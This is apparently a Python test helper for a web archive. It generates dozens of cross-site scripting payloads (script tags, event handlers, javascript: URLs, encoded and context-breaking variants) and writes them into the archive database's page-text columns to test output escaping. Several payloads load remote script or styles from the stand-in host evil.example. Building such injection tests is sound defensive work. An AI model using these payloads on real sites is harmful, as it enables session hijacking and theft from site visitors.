"""Texts that try to run a script or to load something, and an archive full of them. Must not assert anything."""

from __future__ import annotations

import html
import json
import re
from contextlib import closing
from pathlib import Path
from sqlite3 import Connection, IntegrityError

from archive.root import open_database

EVIL = "https://evil.example"
_BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "\ue000", "]]>")
_VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={run}>",
    "<img src={evil}/pixel.png>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<details open ontoggle={run}>x</details>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe src={evil}/frame></iframe>",
    "<a href=javascript:{run}>x</a>",
    "<a href='jav&#x09;ascript:{run}'>x</a>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<math><mi href=javascript:{run}>x</mi></math>",
    "<object data=javascript:{run}></object>",
    "<embed src={evil}/x.swf>",
    "<base href={evil}/>",
    "<link rel=stylesheet href={evil}/x.css>",
    "<link rel=preload as=script href={evil}/x.js>",
    "<meta http-equiv=refresh content='0;url={evil}/'>",
    "<form action=javascript:{run}><button autofocus onfocus={run}>x</button></form>",
    "<style>@import '{evil}/x.css';</style>",
    "<p style=background:url({evil}/x.png)>x</p>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    " autofocus onfocus={run} x=\"",
    "{{{{constructor.constructor('{run}')()}}}}",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "{evil}/\" onmouseover=\"{run}",
    "\u2028<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "%3Cscript%3E{run}%3C/script%3E",
)  # fmt: skip
# What the archive itself writes and reads back: times, places, kinds, hashes.
_OURS = re.compile(
    r"_at$|^(status|role|basis|kind|state|digest|fingerprint|warc_file|published_offset|days|month|key|host|hosts|mode)$"
)
_LISTS = {"authors", "changed_fields", "sources", "evidence", "fill_rates", "words", "notices", "diff", "missing"}


def payloads() -> list[str]:
    """List the texts; each says its number when it runs."""
    found = [broken + vector for vector in _VECTORS for broken in _BREAKS]
    return [text.format(run=f"ran('{number}')", evil=EVIL) for number, text in enumerate(found)]


def poison(root: Path) -> int:
    """Put payloads into every column that holds what pages said, in turn; return how many went in."""
    texts, used = payloads(), 0
    with closing(open_database(root, write=True)) as db:
        connection = db.conn
        connection.execute("PRAGMA foreign_keys = OFF")
        connection.execute("BEGIN")
        for table in db.table_names():
            if table.startswith(("articles_fts", "sqlite_", "_")):
                continue
            columns = [row[1] for row in connection.execute(f"PRAGMA table_info({table})") if row[2] == "TEXT"]
            ids = [row for (row,) in connection.execute(f"SELECT rowid FROM {table}")]
            for id_ in ids:
                for column in columns:
                    if not _OURS.search(column):
                        used += _write(connection, table, column, id_, texts[used % len(texts)])
        connection.execute("INSERT INTO articles_fts(articles_fts) VALUES ('rebuild')")
        connection.execute("COMMIT")
    return used


def _write(connection: Connection, table: str, column: str, id_: int, text: str) -> int:
    (held,) = connection.execute(f"SELECT {column} FROM {table} WHERE rowid = ?", [id_]).fetchone()
    value = _inside(held, text) if column in _LISTS else f"{text} {id_}"
    if column == "body_html":
        value = f"<p>{text}</p><p title='{html.escape(text)}'>x</p>"
    if column in ("url", "href", "slug"):
        value = f"{held or ''}{text}"
    try:
        connection.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = ?", [value, id_])
    except IntegrityError:
        return 0
    return 1


def _inside(held: str | None, text: str) -> str | None:
    """Put a payload into JSON that stays JSON."""
    if held is None:
        return None
    said = json.loads(held)
    if isinstance(said, dict):
        return json.dumps({name: text if isinstance(value, str) else value for name, value in said.items()})
    return json.dumps([text if isinstance(value, str) else value for value in said] or [])
